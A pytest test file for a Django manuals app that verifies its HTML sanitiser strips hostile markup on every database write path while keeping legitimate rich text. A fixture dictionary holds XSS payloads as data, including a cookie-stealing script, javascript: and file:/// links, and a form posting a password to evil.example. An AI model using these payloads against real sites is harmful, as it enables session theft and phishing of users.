"""Hostile HTML is stripped on every path that writes a body: save(), bulk_create(),
QuerySet.update(), bulk_update(), and revisions alike; good rich text survives."""

import pytest
from django.db.models import F, Value
from django.db.models.functions import Concat
from django.utils import timezone

from manuals.models import Revision, Section
from manuals.sanitize import sanitize_html
from manuals.tree import SectionContent, add_section, save_section_content
from tests.conftest import section_titled

HOSTILE = {
    "script": '<p>退款流程</p><script>fetch("/steal?c="+document.cookie)</script>',
    "event handler": '<p onclick="steal()" onmouseover="steal()">退款流程</p>',
    "image onerror": '<p>退款流程</p><img src="/media/x.png" onerror="steal()">',
    "javascript link": '<p><a href="javascript:steal()">退款流程</a></p>',
    "obfuscated javascript link": '<p><a href="JaVa&#x09;ScRiPt:steal()">退款流程</a></p>',
    "file link": '<p><a href="file:///etc/passwd">退款流程</a></p>',
    "file image": '<p>退款流程</p><img src="file:///etc/passwd">',
    "remote image": '<p>退款流程</p><img src="https://evil.example/track.png">',
    "protocol-relative image": '<p>退款流程</p><img src="//evil.example/track.png">',
    "iframe": '<p>退款流程</p><iframe src="https://evil.example/"></iframe>',
    "object and embed": '<p>退款流程</p><object data="x.swf"></object><embed src="x.swf">',
    "style": '<p style="background:url(javascript:steal())">退款流程</p><style>*{}</style>',
    "form": '<p>退款流程</p><form action="https://evil.example/"><input name="pw"></form>',
    "svg": '<p>退款流程</p><svg onload="steal()"><script>steal()</script></svg>',
}
FORBIDDEN = ["<script", "onclick", "onmouseover", "onerror", "onload", "javascript:",
             "file:", "evil.example", "<iframe", "<object", "<embed", "<style", "style=",
             "<form", "<input", "<svg", "steal"]  # fmt: skip


def assert_clean(html: str) -> None:
    lowered = html.lower()
    assert [bad for bad in FORBIDDEN if bad in lowered] == [], html
    assert "退款流程" in html  # the text around the attack is kept


def stored_body(section_id: int) -> str:
    return Section.objects.filter(pk=section_id).values_list("body", flat=True).get()


@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE.keys())
def test_sanitize_html_strips_hostile_markup(html):
    assert_clean(sanitize_html(html))


def test_good_rich_text_survives():
    html = (
        "<h3>情况</h3><p><strong>订单</strong> TB20231105-8842 <em>延迟发货</em></p>"
        "<ol><li>复现</li><li>提交研发</li></ol>"
        "<table><thead><tr><th>代码</th></tr></thead><tbody><tr><td>E01</td></tr></tbody></table>"
        '<p><a href="https://help.example.com/refund">退款说明</a></p>'
        '<figure class="layout-side"><img src="/images/3/" alt="截图"></figure>'
    )
    cleaned = sanitize_html(html)
    for kept in ("<h3>情况</h3>", "<strong>订单</strong>", "<ol><li>复现</li>", "<td>E01</td>",
                 'href="https://help.example.com/refund"', 'rel="noopener noreferrer"',
                 'src="/images/3/"', 'class="layout-side"'):  # fmt: skip
        assert kept in cleaned, (kept, cleaned)


@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE.keys())
def test_editing_a_section_stores_clean_html(alice_manual, alice, html):
    section = section_titled(alice_manual, "考勤制度")
    saved = save_section_content(
        section=section,
        expected_version=section.version,
        content=SectionContent(title="考勤制度", body=html),
        user=alice,
    )
    assert_clean(stored_body(saved.pk))
    assert_clean(Revision.objects.filter(section=saved).first().body)


def test_adding_a_section_stores_clean_html(alice_manual, alice):
    section = add_section(
        manual=alice_manual,
        content=SectionContent(title="新章节", body=HOSTILE["script"] + HOSTILE["iframe"]),
        user=alice,
    )
    assert_clean(stored_body(section.pk))


def test_model_save_cleans_the_body(alice_manual):
    section = section_titled(alice_manual, "考勤制度")
    section.body = HOSTILE["event handler"] + HOSTILE["javascript link"]
    section.save(update_fields=["body"])
    assert_clean(stored_body(section.pk))


def test_queryset_update_cleans_the_body(alice_manual):
    section = section_titled(alice_manual, "考勤制度")
    Section.objects.filter(pk=section.pk).update(body=HOSTILE["iframe"] + HOSTILE["file link"])
    assert_clean(stored_body(section.pk))


def test_bulk_update_cleans_the_body(alice_manual):
    sections = list(Section.objects.filter(manual=alice_manual, level=2))
    for section in sections:
        section.body = HOSTILE["svg"] + HOSTILE["image onerror"]
    Section.objects.bulk_update(sections, ["body"])
    for section in sections:
        assert_clean(stored_body(section.pk))


def test_bulk_create_cleans_the_body(alice_manual):
    # Rows only, to reach the database through bulk_create; imports use manuals.bulk.
    root = alice_manual.root
    now = timezone.now()
    section = Section.objects.bulk_create(
        [
            Section(
                manual=alice_manual, parent=root, tree_id=root.tree_id, level=1,
                lft=10_000, rght=10_001, title="导入", body=HOSTILE["script"],
                created_at=now, updated_at=now,
            )
        ]
    )[0]  # fmt: skip
    assert_clean(stored_body(section.pk))
    Revision.objects.bulk_create(
        [Revision(section=section, version=2, title="导入", kind="note", visibility="private",
                  body=HOSTILE["object and embed"])]
    )  # fmt: skip
    assert_clean(Revision.objects.get(section=section, version=2).body)
    Section.objects.filter(pk=section.pk).delete()  # leave the tree as it was


def test_an_emptied_editor_stores_an_empty_body(alice_manual, alice):
    section = section_titled(alice_manual, "考勤制度")
    saved = save_section_content(
        section=section,
        expected_version=section.version,
        content=SectionContent(title="考勤制度", body="<p><br></p>"),
        user=alice,
    )
    assert stored_body(saved.pk) == ""


def test_update_with_a_value_expression_cleans_the_body(alice_manual):
    section = section_titled(alice_manual, "考勤制度")
    Section.objects.filter(pk=section.pk).update(body=Value(HOSTILE["script"]))
    assert_clean(stored_body(section.pk))
    Revision.objects.filter(section=section).update(body=Value(HOSTILE["iframe"]))
    assert_clean(Revision.objects.filter(section=section).first().body)


def test_update_refuses_expressions_that_could_assemble_markup(alice_manual):
    section = section_titled(alice_manual, "考勤制度")
    before = stored_body(section.pk)
    with pytest.raises(TypeError, match="sanitised"):
        Section.objects.filter(pk=section.pk).update(
            body=Concat(F("body"), Value("<scr"), Value("ipt>steal()</script>"))
        )
    assert stored_body(section.pk) == before
